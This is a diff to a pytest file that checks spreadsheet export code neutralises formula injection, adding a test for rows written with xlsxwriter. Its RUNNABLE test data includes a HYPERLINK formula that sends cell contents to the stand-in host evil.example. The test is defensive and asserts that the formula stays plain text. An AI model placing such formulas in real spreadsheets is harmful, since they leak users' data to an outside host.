@@ -1,11 +1,14 @@
 """The one cell rule: CSV cells a spreadsheet could run get an apostrophe, XLSX texts are text cells."""
 
 import io
+from datetime import datetime
+from decimal import Decimal
 
 import pytest
+import xlsxwriter
 from openpyxl import Workbook, load_workbook
 
-from app.spreadsheets.cells import csv_row, csv_text, unescape_csv_text, xlsx_row
+from app.spreadsheets.cells import csv_row, csv_text, unescape_csv_text, write_xlsx_row, xlsx_row
 
 RUNNABLE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -52,3 +55,21 @@ def test_xlsx_texts_are_text_cells_never_formulas_or_errors(write_only):
     assert [cell.value for cell in cells[:4]] == RUNNABLE[:4]
     assert cells[5].value == "ctrlchar"  # XML cannot hold the control character
     assert cells[6].value == 7 and cells[6].data_type == "n"
+
+
+def test_xlsxwriter_rows_keep_texts_as_text_and_numbers_and_times_as_numbers():
+    buffer = io.BytesIO()
+    workbook = xlsxwriter.Workbook(buffer, {"constant_memory": True})
+    sheet = workbook.add_worksheet("Data")
+    stamp = workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
+    write_xlsx_row(sheet, 0, [*RUNNABLE[:4], "#N/A", "ctrl\x01char", 7, None, Decimal("1.5"),
+                              datetime(2026, 3, 1, 9, 18), True], date_format=stamp)
+    workbook.close()
+    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
+    assert [cell.data_type for cell in cells[:6]] == ["s"] * 6
+    assert [cell.value for cell in cells[:4]] == RUNNABLE[:4]
+    assert cells[4].value == "#N/A" and cells[5].value == "ctrlchar"
+    assert (cells[6].value, cells[6].data_type) == (7, "n") and cells[7].value is None
+    assert cells[8].value == 1.5
+    assert cells[9].value == datetime(2026, 3, 1, 9, 18) and cells[9].number_format == "yyyy-mm-dd hh:mm:ss"
+    assert cells[10].value is True
